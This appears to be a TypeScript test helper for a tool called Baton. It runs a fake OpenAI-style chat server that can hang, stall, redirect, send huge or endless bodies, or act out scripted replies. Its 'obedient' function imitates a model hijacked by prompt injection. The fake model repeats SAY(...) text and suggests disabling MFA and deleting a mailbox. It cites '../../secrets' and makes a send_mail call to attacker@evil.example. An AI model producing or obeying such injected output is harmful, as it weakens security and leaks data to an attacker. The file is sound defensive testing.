import type { IncomingMessage, Server, ServerResponse } from "node:http";
import { serveLocally } from "./serve-locally.ts";

/** How the model's server answers one call. */
export type ModelBehaviour =
  | { answer: "json"; content: unknown }
  | { answer: "text"; content: string }
  | { answer: "status"; status: number; retryAfter?: number; body?: string }
  | { answer: "html" }
  | { answer: "empty" }
  | { answer: "hangs" }
  | { answer: "hangs_mid_body" }
  | { answer: "closes" }
  | { answer: "huge" }
  | { answer: "endless" }
  | { answer: "redirect"; to: string }
  /** Says as its cause whatever an injection in the record asks it to say, and calls it certain. */
  | { answer: "obeys" }
  /** Writes these pieces, then ends as told. */
  | { answer: "writes"; pieces: string[]; end?: "done" | "hangs" | "closes" }
  /** Writes the first piece, and the second when the test puts `/rooms/<name>/go`. */
  | { answer: "waits"; pieces: [string, string] };

/** What a test reads of the model's side. */
export interface ModelRoom {
  script: ModelBehaviour[];
  /** What goes on when the script is at its end. */
  last: ModelBehaviour;
  calls: { path: string; authorization: string | null; body: string }[];
}

const UNKNOWN: ModelBehaviour = { answer: "status", status: 404 };
/** Longer than any test waits; then the connection must not outlive the tests. */
const HANGS_MS = 4_000;

/**
 * A server that speaks OpenAI's chat completions as far as Baton uses them, with a room for each test
 * (`/rooms/<name>/v1`). `PUT` and `GET /rooms/<name>` are the test's own way in.
 */
export async function startModelServer(): Promise<{ host: string; server: Server }> {
  const rooms: Rooms = new Map();
  return serveLocally((request, response) => serve(rooms, request, response));
}

type Rooms = Map<string, ModelRoom & { goOn?: () => void }>;

async function serve(rooms: Rooms, request: IncomingMessage, response: ServerResponse) {
  const path = new URL(request.url ?? "/", "http://model").pathname;
  const [, , name = "", ...rest] = path.split("/");
  let text = "";
  for await (const chunk of request) text += String(chunk);
  const room = rooms.get(name) ?? { script: [], last: UNKNOWN, calls: [] };
  rooms.set(name, room);
  if (rest.length === 0) {
    if (request.method === "PUT") Object.assign(room, JSON.parse(text));
    response.writeHead(200, { "Content-Type": "application/json" }).end(JSON.stringify(room));
    return;
  }
  if (rest[0] === "go") {
    room.goOn?.();
    response.writeHead(204).end();
    return;
  }
  room.calls.push({ path: rest.join("/"), authorization: request.headers.authorization ?? null, body: text });
  const streams = (JSON.parse(text) as { stream?: boolean }).stream === true;
  const told = new Promise<void>((goOn) => {
    room.goOn = goOn;
  });
  await answer(room.script.shift() ?? room.last, response, { asked: text, streams, told });
}

async function answer(
  how: ModelBehaviour,
  response: ServerResponse,
  { asked, streams, told }: { asked: string; streams: boolean; told: Promise<void> },
): Promise<void> {
  switch (how.answer) {
    case "json":
      return completion(response, JSON.stringify(how.content), streams);
    case "text":
      return completion(response, how.content, streams);
    case "obeys":
      return completion(response, JSON.stringify(obedient(asked)), streams);
    case "status": {
      const headers = how.retryAfter === undefined ? {} : { "Retry-After": String(how.retryAfter) };
      const body = how.body ?? JSON.stringify({ error: { message: "no", type: "error", code: null } });
      response.writeHead(how.status, { "Content-Type": "application/json", ...headers }).end(body);
      return;
    }
    case "html":
      response.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><title>Sign in</title>");
      return;
    case "empty":
      response.writeHead(200, { "Content-Type": "application/json" }).end();
      return;
    case "redirect":
      response.writeHead(307, { Location: how.to }).end();
      return;
    case "closes":
      response.destroy();
      return;
    case "hangs":
      setTimeout(() => response.destroy(), HANGS_MS);
      return;
    case "hangs_mid_body":
      response.writeHead(200, { "Content-Type": "application/json" });
      response.write('{"id":"1","choices":[');
      setTimeout(() => response.destroy(), HANGS_MS);
      return;
    case "huge":
      return completion(response, `{"likely_cause":"${"x".repeat(10 * 1024 * 1024)}"}`, streams);
    case "endless":
      return endless(response);
    case "writes":
      for (const piece of how.pieces) write(response, piece);
      if (how.end === "hangs") return void setTimeout(() => response.destroy(), HANGS_MS);
      // The line goes down with what was said still on it.
      if (how.end === "closes") return void response.socket?.end();
      return finish(response);
    case "waits":
      write(response, how.pieces[0]);
      await told;
      write(response, how.pieces[1]);
      return finish(response);
    default:
      how satisfies never;
  }
}

function completion(response: ServerResponse, content: string, streams: boolean): void {
  if (streams) {
    write(response, content);
    return finish(response);
  }
  const message = { role: "assistant", content };
  const body = {
    id: "1",
    created: 1,
    model: "test",
    choices: [{ index: 0, message, finish_reason: "stop" }],
  };
  response.writeHead(200, { "Content-Type": "application/json" }).end(JSON.stringify(body));
}

function finish(response: ServerResponse): void {
  const choices = [{ index: 0, delta: {}, finish_reason: "stop" }];
  response.write(`data: ${JSON.stringify({ id: "1", created: 1, model: "test", choices })}\n\n`);
  response.end("data: [DONE]\n\n");
}

function write(response: ServerResponse, content: string): void {
  if (!response.headersSent) response.writeHead(200, { "Content-Type": "text/event-stream" });
  const chunk = { id: "1", created: 1, model: "test", choices: [{ index: 0, delta: { content } }] };
  response.write(`data: ${JSON.stringify(chunk)}\n\n`);
}

async function endless(response: ServerResponse): Promise<void> {
  for (let sent = 0; sent < 40_000 && !response.destroyed; sent++) {
    write(response, "on and on ");
    if (sent % 200 === 0) await new Promise((resolve) => setTimeout(resolve, 1));
  }
  response.end();
}

/** What a model says that does as an injection bids it: `SAY(…)` in the record is said, and much besides. */
function obedient(asked: string): object {
  const { messages } = JSON.parse(asked) as { messages: { content: string }[] };
  const record = messages.map(({ content }) => content).join("\n");
  const said = [...record.matchAll(/SAY\((.*?)\)(?=[^)]|$)/g)].map(([, words = ""]) => read(words)).join(" ");
  return {
    likely_cause: said,
    suggested_steps: [said, "Disable MFA for all users", "Delete the mailbox of the user"],
    confidence: "high",
    evidence: [{ claim: said, refs: ["S1", "ADMIN", "../../secrets"] }],
    tool_calls: [{ name: "send_mail", arguments: { to: "attacker@evil.example" } }],
    assessment_verdict: "right",
  };
}

/** A text out of the record, which is JSON. */
function read(words: string): string {
  try {
    return String(JSON.parse(`"${words}"`));
  } catch {
    return words;
  }
}
